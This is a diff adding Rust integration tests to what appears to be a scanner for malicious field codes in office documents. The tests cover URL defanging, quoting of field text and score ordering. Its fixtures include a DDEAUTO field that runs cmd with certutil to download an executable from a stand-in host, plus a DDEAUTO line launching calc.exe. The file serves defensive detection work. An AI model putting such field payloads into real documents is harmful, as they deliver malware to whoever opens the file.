@@ -4,7 +4,7 @@
 mod support;
 
 use serde_json::Value;
-use support::{Folder, Run, encrypted_zip, harmless, malicious, run, run_with};
+use support::{Folder, Run, encrypted_zip, fields, harmless, malicious, run, run_with};
 
 /// A limit that the documents here do not fit in, so that they are incomplete whatever they hold.
 const TOO_SMALL: &str = "--limits=decoded-bytes=10";
@@ -115,6 +115,90 @@ fn text_gives_the_verdict_first_and_then_what_to_know() {
         assert!(run.out.contains(part), "{part}: {}", run.out);
     }
     assert_eq!(run.err, "");
+}
+
+#[test]
+fn addresses_are_defanged_where_they_are_no_quotation() {
+    let document = fields([
+        r#"DDEAUTO cmd "/c certutil -f http://evil.example.invalid/a.exe" it.em"#,
+        r#"INCLUDETEXT "http://other.example.invalid/b.docx""#,
+    ]);
+    for verbose in ["--color=never", "--verbose"] {
+        let run = run_with(&["scan", verbose, "-"], &document);
+        let said = |label: &str| {
+            let lines = run.out.lines().map(str::trim);
+            lines
+                .filter_map(|line| line.strip_prefix(label))
+                .map(str::trim)
+                .collect::<Vec<_>>()
+        };
+        let quoted = [said("command"), said("in file")].concat();
+        assert_eq!(quoted.len(), 3, "{}", run.out);
+        for line in quoted {
+            assert!(line.contains("http://"), "{line}");
+        }
+        let safe = said("indicators");
+        assert_eq!(safe.len(), 2, "{}", run.out);
+        assert!(safe[0].contains("hxxp://evil[.]example[.]invalid/a.exe"));
+        assert!(safe[1].contains("hxxp://other[.]example[.]invalid/b.docx"));
+        assert_eq!(said("item"), ["it.em"]);
+        for line in run.out.lines().map(str::trim) {
+            let quotes = ["command", "in file", "starts"];
+            if !quotes.iter().any(|label| line.starts_with(label)) {
+                assert!(!line.contains("http://"), "{line}");
+                assert!(!line.contains("example.invalid"), "{line}");
+            }
+        }
+    }
+}
+
+#[test]
+fn what_stands_in_the_file_is_always_shown() {
+    let bad = run_with(&["scan", "-"], &malicious());
+    let quoted = r#"in file     DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
+    assert!(bad.out.contains(quoted), "{}", bad.out);
+    let same = fields(["DDEAUTO cmd calc"]);
+    let same = run_with(&["scan", "-"], &same);
+    assert!(
+        same.out.contains("in file     DDEAUTO cmd calc"),
+        "{}",
+        same.out
+    );
+    assert!(!same.out.contains("means"), "{}", same.out);
+}
+
+#[test]
+fn findings_without_effect_are_ordered_by_score() {
+    // More than are shown, the worse ones last.
+    let links: Vec<_> = (0..12)
+        .map(|number| format!(r#"HYPERLINK "https://example.com/{number}""#))
+        .chain((0..4).map(|number| format!(r#"INCLUDEPICTURE "http://example.com/{number}.png""#)))
+        .collect();
+    let document = fields(links.iter().map(String::as_str));
+    let json = run_with(&["scan", "--format=json", "-"], &document);
+    let report: Value = serde_json::from_str(&json.out).unwrap();
+    let mut expected: Vec<u64> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|finding| finding["score"].as_u64().unwrap())
+        .filter(|score| *score < 50)
+        .collect();
+    assert!(expected.len() > 11 && !expected.is_sorted_by(|a, b| a >= b));
+    expected.sort_by(|a, b| b.cmp(a));
+    let text = run_with(&["scan", "-"], &document);
+    let brief: Vec<_> = text.out.lines().filter(|l| l.starts_with("  - ")).collect();
+    assert_eq!(brief.len(), 11, "{}", text.out);
+    for (line, score) in brief.iter().zip(&expected[..10]) {
+        assert!(line.ends_with(&format!(", score {score}")), "{line}");
+    }
+    let more = expected.len() - 10;
+    let worst = expected[10];
+    assert!(
+        brief[10].starts_with(&format!("  - {more} more, the worst with score {worst} ")),
+        "{}",
+        brief[10]
+    );
 }
 
 #[test]
